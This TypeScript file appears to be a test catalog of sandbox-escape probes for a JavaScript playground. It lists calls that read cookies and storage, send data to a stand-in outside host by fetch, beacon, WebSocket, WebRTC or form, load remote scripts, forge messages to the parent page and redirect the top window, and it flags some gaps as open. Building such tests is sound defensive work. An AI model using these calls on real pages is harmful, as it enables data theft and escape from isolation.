import type { Kind } from './attack.ts';

/**
 * What JavaScript may try where it runs: in the interpreter's worker, had a program a way to make JavaScript out of text, and in the
 * frame's own thread, had it a way there. Product code gives it neither.
 */
export interface JavaScriptAttack {
	readonly id: string;
	readonly kind: Kind;
	readonly says: string;
	/** Text of a function of `(page, elsewhere, udp, tcp)`: addresses ending in `/`, but `host:port` for UDP. Its loot as in `LiveAttack`. */
	readonly source: string;
	readonly from: readonly ('worker' | 'frame')[];
	/** From the frame's thread it may come through, and why nothing stops it. */
	readonly isOpen?: string;
	/** The frame is gone afterwards, or what it does shows only at the recorders. */
	readonly isLast?: true;
}

const both = ['worker', 'frame'] as const;
const frame = ['frame'] as const;
const worker = ['worker'] as const;

/** A promise of the first of some events. */
const on = (target: string, good: string, bad: string) =>
	`new Promise((resolve, reject) => { const it = ${target}; it.on${good} = () => resolve('${good}'); it.on${bad} = () => reject(new Error('${bad}')); })`;
const from = (body: string) => `(page, elsewhere, udp, tcp) => { ${body} }`;

export const javaScriptAttacks: readonly JavaScriptAttack[] = [
	{
		id: 'indexeddb',
		kind: 'IndexedDB',
		says: 'open a database of the page',
		source: from(`return ${on(`indexedDB.open('codesteer-playground')`, 'success', 'error')}`),
		from: both,
	},
	{
		id: 'databases',
		kind: 'IndexedDB',
		says: 'list the databases of the page',
		source: from('return indexedDB.databases()'),
		from: both,
	},
	{
		id: 'local-storage',
		kind: 'page storage',
		says: 'read local storage',
		source: from('return globalThis.localStorage'),
		from: both,
	},
	{
		id: 'session-storage',
		kind: 'page storage',
		says: 'read session storage',
		source: from('return globalThis.sessionStorage'),
		from: both,
	},
	{
		id: 'cookie',
		kind: 'cookies',
		says: 'read cookies',
		source: from('return document.cookie'),
		from: frame,
	},
	{
		id: 'cookie-store',
		kind: 'cookies',
		says: 'read the cookie store',
		source: from('return cookieStore.getAll().then((all) => all.length || null)'),
		from: both,
	},
	{
		id: 'caches',
		kind: 'Cache Storage',
		says: 'list what the page keeps in its caches',
		source: from('return caches.keys()'),
		from: both,
	},
	{
		id: 'private-files',
		kind: 'private files',
		says: "open the page's private file system",
		source: from('return navigator.storage.getDirectory()'),
		from: both,
	},
	{
		id: 'locks',
		kind: 'channels',
		says: "take a lock of the page's",
		source: from(`return navigator.locks.request('codesteer-playground', () => 'held')`),
		from: both,
	},
	{
		id: 'service-worker',
		kind: 'service workers',
		says: 'register a service worker',
		source: from(`return navigator.serviceWorker.register(page + 'sw.js')`),
		from: both,
	},
	{
		id: 'broadcast',
		kind: 'channels',
		says: 'speak to other interpreters',
		source: from(`return new BroadcastChannel('codesteer-playground')`),
		from: worker,
	},
	{
		id: 'post',
		kind: 'channels',
		says: 'speak to the frame',
		source: from(`postMessage({ kind: 'installed' }); return 'sent'`),
		from: worker,
	},
	{
		id: 'close',
		kind: 'channels',
		says: 'end its own worker',
		source: from(`close(); return 'closed'`),
		from: worker,
	},
	{
		id: 'parent',
		kind: 'windows',
		says: 'read the window around it',
		source: from('return parent.document.title'),
		from: both,
	},
	{
		id: 'top',
		kind: 'windows',
		says: 'send the whole page elsewhere',
		source: from(`top.location.href = elsewhere + 'attack/top'; return null`),
		from: both,
	},
	{
		id: 'popup',
		kind: 'popups',
		says: 'open a window',
		source: from(`return open(elsewhere + 'attack/popup')`),
		from: both,
	},
	{
		id: 'fetch',
		kind: 'fetch',
		says: 'fetch from elsewhere',
		source: from(`return fetch(elsewhere + 'attack/fetch')`),
		from: both,
	},
	{
		id: 'fetch-blind',
		kind: 'fetch',
		says: 'send to elsewhere without reading the answer',
		source: from(
			`return fetch(elsewhere + 'attack/fetch-blind', { mode: 'no-cors', method: 'POST', body: 'x', keepalive: true })`,
		),
		from: both,
	},
	{
		id: 'fetch-page',
		kind: 'fetch',
		says: "fetch from the page's own server",
		source: from(`return fetch(page + 'attack/fetch-page', { mode: 'no-cors' })`),
		from: both,
	},
	{
		id: 'fetch-later',
		kind: 'fetch',
		says: 'fetch when it is gone',
		source: from(
			`return fetchLater(elsewhere + 'attack/fetch-later', { activateAfter: 0 }).activated || null`,
		),
		from: frame,
	},
	{
		id: 'xhr',
		kind: 'XMLHttpRequest',
		says: 'ask elsewhere by XMLHttpRequest',
		source: from(
			`const r = new XMLHttpRequest(); r.open('GET', elsewhere + 'attack/xhr', false); r.send(); return r.status`,
		),
		from: both,
	},
	{
		id: 'web-socket',
		kind: 'WebSocket',
		says: 'open a WebSocket',
		source: from(
			`return ${on(`new WebSocket(elsewhere.replace('http', 'ws') + 'attack/web-socket')`, 'open', 'error')}`,
		),
		from: both,
	},
	{
		id: 'event-source',
		kind: 'EventSource',
		says: 'open an event stream',
		source: from(`return ${on(`new EventSource(elsewhere + 'attack/event-source')`, 'open', 'error')}`),
		from: both,
	},
	{
		id: 'web-transport',
		kind: 'WebTransport',
		says: 'open a WebTransport',
		source: from(`return new WebTransport('https://' + udp + '/attack').ready`),
		from: both,
	},
	{
		id: 'beacon',
		kind: 'beacons',
		says: 'send a beacon',
		source: from(`navigator.sendBeacon(elsewhere + 'attack/beacon', 'x'); return null`),
		from: both,
	},
	{
		id: 'web-rtc',
		kind: 'WebRTC',
		says: 'speak over UDP by WebRTC',
		source: from(
			`const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + udp }] }); peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); return new Promise((resolve) => setTimeout(() => resolve(null), 1500))`,
		),
		from: both,
		isOpen: 'No policy closes WebRTC; workers, where programs run, have none of it',
	},
	{
		id: 'picture',
		kind: 'pictures and fonts',
		says: 'load a picture from elsewhere',
		source: from(
			`return ${on(`Object.assign(new Image(), { src: elsewhere + 'attack/picture' })`, 'load', 'error')}`,
		),
		from: both,
	},
	{
		id: 'font',
		kind: 'pictures and fonts',
		says: 'load a font from elsewhere',
		source: from(`return new FontFace('x', 'url(' + elsewhere + 'attack/font)').load()`),
		from: both,
	},
	{
		id: 'style',
		kind: 'pictures and fonts',
		says: 'load a style sheet from elsewhere',
		source: from(
			`const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: elsewhere + 'attack/style' }); const loaded = ${on('link', 'load', 'error')}; document.head.append(link); return loaded`,
		),
		from: frame,
	},
	{
		id: 'import-scripts',
		kind: 'imports',
		says: 'load a script from elsewhere',
		source: from(`importScripts(elsewhere + 'attack/import-scripts'); return 'loaded'`),
		from: worker,
	},
	{
		id: 'script',
		kind: 'imports',
		says: 'load a script from elsewhere',
		source: from(
			`const script = Object.assign(document.createElement('script'), { src: elsewhere + 'attack/script' }); const loaded = ${on('script', 'load', 'error')}; document.head.append(script); return loaded`,
		),
		from: frame,
	},
	{
		id: 'import',
		kind: 'imports',
		says: 'load a module from elsewhere',
		source: from(`return import(elsewhere + 'attack/import')`),
		from: both,
	},
	{
		id: 'import-page',
		kind: 'imports',
		says: 'load a module of the page',
		source: from(`return import(page + 'attack/import-page')`),
		from: both,
	},
	{
		id: 'import-text',
		kind: 'imports',
		says: 'load a module out of its own address',
		source: from(`return import('data:text/javascript,export default 1')`),
		from: both,
	},
	{
		id: 'inner-frame',
		kind: 'windows',
		says: 'load a frame from elsewhere',
		source: from(
			`const inner = Object.assign(document.createElement('iframe'), { src: elsewhere + 'attack/inner-frame' }); document.documentElement.append(inner); return null`,
		),
		from: frame,
	},
	{
		id: 'worker',
		kind: 'nested workers',
		says: 'make a worker of its own',
		source: from(
			`return new Worker(URL.createObjectURL(new Blob(['fetch("' + elsewhere + 'attack/worker")'])))`,
		),
		from: worker,
	},
	{
		id: 'frame-worker',
		kind: 'nested workers',
		says: 'have a new worker fetch',
		source: from(
			`new Worker(URL.createObjectURL(new Blob(['fetch("' + elsewhere + 'attack/frame-worker", { mode: "no-cors" })']))); return null`,
		),
		from: frame,
	},
	{
		id: 'shared-worker',
		kind: 'nested workers',
		says: 'make a shared worker',
		source: from(`return ${on(`new SharedWorker(URL.createObjectURL(new Blob(['1'])))`, 'never', 'error')}`),
		from: worker,
	},
	{
		id: 'eval',
		kind: 'code from text',
		says: 'make code out of text',
		// Later: what an engine is made to run from outside may be let past the policy while it runs.
		source: from(
			`return new Promise((resolve, reject) => setTimeout(() => { try { resolve((0, eval)('1')); } catch (error) { reject(error); } }))`,
		),
		from: frame,
	},
	{
		id: 'notification',
		kind: 'this computer',
		says: 'show a notification',
		source: from(`return ${on(`new Notification('x')`, 'show', 'error')}`),
		from: both,
	},
	{
		id: 'prefetch',
		kind: 'prefetch',
		says: 'have a page fetched ahead',
		source: from(
			`document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: elsewhere + 'attack/prefetch' })); return null`,
		),
		from: frame,
	},
	{
		id: 'preload',
		kind: 'prefetch',
		says: 'have a file fetched ahead',
		source: from(
			`document.head.append(Object.assign(document.createElement('link'), { rel: 'preload', as: 'fetch', href: elsewhere + 'attack/preload' })); return null`,
		),
		from: frame,
	},
	{
		id: 'preconnect',
		kind: 'prefetch',
		says: 'have a connection opened ahead',
		source: from(
			`document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: tcp })); return null`,
		),
		from: frame,
		isOpen: 'No policy closes it; no program reaches the frame, and workers have no links',
	},
	{
		id: 'speculation-rules',
		kind: 'speculation rules',
		says: 'have the browser guess the next page',
		source: from(
			`const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ urls: [elsewhere + 'attack/speculation-rules'], eagerness: 'immediate' }] }); document.head.append(rules); return null`,
		),
		from: frame,
	},
	{
		id: 'forged-connect',
		kind: 'forged messages',
		says: 'pretend to the page to be somebody else',
		source: from(
			`parent.postMessage({ kind: 'ended', run: 1, outcome: { kind: 'finished', value: 'forged' } }, '*'); parent.postMessage('codesteer-playground:connect-sandbox', '*'); return null`,
		),
		from: frame,
	},
	{
		id: 'form',
		kind: 'forms',
		says: 'send a form',
		source: from(
			`const form = Object.assign(document.createElement('form'), { action: elsewhere + 'attack/form', method: 'post' }); document.documentElement.append(form); form.submit(); return null`,
		),
		from: frame,
		isLast: true,
	},
	{
		id: 'link',
		kind: 'links',
		says: 'click on a link',
		source: from(
			`const link = Object.assign(document.createElement('a'), { href: elsewhere + 'attack/link', ping: elsewhere + 'attack/link/ping' }); document.documentElement.append(link); link.click(); return null`,
		),
		from: frame,
		isLast: true,
	},
	{
		id: 'link-out',
		kind: 'links',
		says: 'click on a link to a new tab',
		source: from(
			`const link = Object.assign(document.createElement('a'), { href: elsewhere + 'attack/link-out', target: '_blank' }); document.documentElement.append(link); link.click(); return null`,
		),
		from: frame,
		isLast: true,
	},
	{
		id: 'location',
		kind: 'navigation',
		says: 'go elsewhere itself',
		source: from(`location.href = elsewhere + 'attack/location'; return null`),
		from: frame,
		isLast: true,
	},
	{
		id: 'location-page',
		kind: 'navigation',
		says: "go to an address of the page's own server",
		source: from(`location.href = page + 'attack/location-page'; return null`),
		from: frame,
		isLast: true,
		isOpen: "The page's policy lets its frames be of its own server, where the frame itself comes from",
	},
	{
		id: 'meta-refresh',
		kind: 'meta refresh',
		says: 'have itself sent elsewhere',
		source: from(
			`const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + elsewhere + 'attack/meta-refresh'; document.head.append(meta); return null`,
		),
		from: frame,
		isLast: true,
	},
];
